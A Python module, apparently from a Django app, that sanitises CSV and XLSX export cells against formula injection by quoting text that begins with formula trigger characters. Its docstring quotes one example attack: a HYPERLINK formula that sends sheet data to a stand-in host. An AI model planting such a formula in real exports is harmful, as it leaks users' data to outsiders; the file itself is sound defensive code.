"""Writing CSV and XLSX exports so that no spreadsheet runs their text as a formula.

Exports carry what people typed: an organisation's name, an action's title, a
comment, a practice's title, a person's name. Excel and LibreOffice run a cell
starting with "=", "+", "-", "@", a tab or a carriage return as a formula, so
`=HYPERLINK("http://evil.example/?leak="&A1,"x")` typed as a name would send the
sheet's data away when clicked ("CSV injection", OWASP). Such text is written
behind a single quote, which spreadsheets read as "what follows is text", as
OWASP advises; numbers stay numbers. Every export writes its cells through
`cell_value`, `csv_bytes` or `append_row`.
"""

import csv
import io
from collections.abc import Iterable

from django.utils.functional import Promise
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.workbook import Workbook
from openpyxl.worksheet.worksheet import Worksheet

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
# Excel opens a CSV as UTF-8 only when it starts with this mark.
BOM = "\ufeff"


def cell_value(value):
    """`value` as an export cell holds it: text a spreadsheet would run, behind a quote."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return QUOTE + value
    return value


def imported_text(text: str) -> str:
    """A cell read back from one of our exports, without the quote `cell_value` added."""
    if text.startswith(QUOTE) and text[1:].startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text


def csv_bytes(rows: Iterable[Iterable], *, delimiter: str = ",") -> bytes:
    """The rows as a UTF-8 CSV file with its byte order mark, every cell through `cell_value`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter)
    writer.writerows([cell_value(value) for value in row] for row in rows)
    return (BOM + buffer.getvalue()).encode("utf-8")


def append_row(sheet: Worksheet, values: Iterable) -> list[Cell]:
    """Add a row of cells to `sheet`, every cell through `cell_value`; returns the cells,
    to style them."""
    cells = [_cell(sheet, value) for value in values]
    sheet.append(cells)
    return cells


def _cell(sheet: Worksheet, value) -> Cell:
    if isinstance(value, str):
        # Control characters cannot be written in XLSX; removed first, so that none
        # can hide a leading "=" from the check below.
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    value = cell_value(value)
    cell = Cell(sheet, value=value)
    if isinstance(value, str):
        # openpyxl makes a formula of text starting with "=" and an error of "#N/A":
        # text is text, whatever it starts with.
        cell.data_type = "s"
    return cell


def xlsx_bytes(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
